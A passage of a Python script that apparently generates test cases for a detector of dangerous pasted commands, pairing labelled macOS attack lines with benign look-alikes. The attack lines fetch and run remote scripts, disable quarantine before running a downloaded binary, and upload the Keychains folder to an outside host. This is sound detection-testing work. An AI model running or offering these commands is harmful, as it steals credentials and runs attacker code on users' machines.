             "https://developer.mozilla.org/en-US/docs/Web/API/Fetch_API", "browser_console")
        for n, text in enumerate(benign, start=1)
    ]  # fmt: skip
    return out


def mac_interpreter_cases() -> list[dict[str, str]]:
    h = LURE_HOSTS[0]
    page = STRANGER_PAGES[2]
    lures = [
        (f'python3 -c "$(curl -fsSL https://{h}/k.py)"', "flagged"),
        (f'perl -e "$(wget -qO- https://{h}/m.pl)"', "flagged"),
        (f"curl -s https://{h}/u.scpt -o /tmp/u.scpt && osascript /tmp/u.scpt", "flagged"),
        (
            f"defaults write com.apple.LaunchServices LSQuarantine -bool NO && curl -fsSL "
            f"https://{h}/q -o /tmp/q && chmod +x /tmp/q && /tmp/q",
            "malicious",
        ),
        (
            f"tar -czf - ~/Library/Keychains | curl -X PUT --data-binary @- https://{h}/w",
            "malicious",
        ),
        (f'sh -c "$(curl -fsSL https://{h}/i)"; killall Terminal', "malicious"),
    ]
    out = [
        case(f"rt-mac-interp-{n}", text, expect, "T1059", "macos", page, "terminal")
        for n, (text, expect) in enumerate(lures, start=1)
    ]
    benign = [
        "osascript ~/scripts/resize-windows.scpt",
        'python3 -c "import sys; print(sys.version)"',
        "tar -czf ~/Desktop/docs-backup.tgz ~/Documents/Projects",
        "curl -fsSL https://data.example-stats.org/daily.json -o daily.json && python3 plot.py daily.json",
    ]
    out += [
        case(f"rt-mac-interp-ok-{n}", text, "not_flagged", BENIGN, "macos",
             "https://apple.stackexchange.com/questions/12345/", "terminal")
        for n, text in enumerate(benign, start=1)
    ]  # fmt: skip
    return out


def quiet_in_editor_cases() -> list[dict[str, str]]:
    page = "https://blog.example-devnotes.org/2026/pipes"
    text = (
        "Why do people still write `curl -fsSL https://get.kettlectl.dev/x | sh` in READMEs? "
        "Because it is one line, and you can read the script first with less."
    )
    return [
        case("rt-editor-ok-1", text, "not_flagged", BENIGN, "any", page, "other"),
        case("rt-editor-terminal-1", text, "flagged", "T1059.004", "linux", page, "terminal"),
    ]


def build() -> list[dict[str, str]]:
    cases = (
        page_disguise_cases()
        + instructions_cases()
        + typographic_cases()
        + wallet_cases()
        + console_injection_cases()
        + decode_cases()
        + interpreter_cases()
        + ssh_key_cases()
        + ps_hidden_cases()
        + unc_cases()
        + scam_cases()
        + provenance_cases()
        + oauth_cases()
        + url_program_cases()
        + source_cases()
        + rare_lolbin_cases()
        + comment_claim_cases()
        + console_fetched_cases()
        + mac_interpreter_cases()
        + quiet_in_editor_cases()
    )
    ids = [c["id"] for c in cases]
    assert len(ids) == len(set(ids)), "case ids must be unique"
    return cases


CASES = build()

if __name__ == "__main__":
    from casefile import write  # beside this script, which runs as tests/data/cases/make_*.py

    write(OUT, CASES)
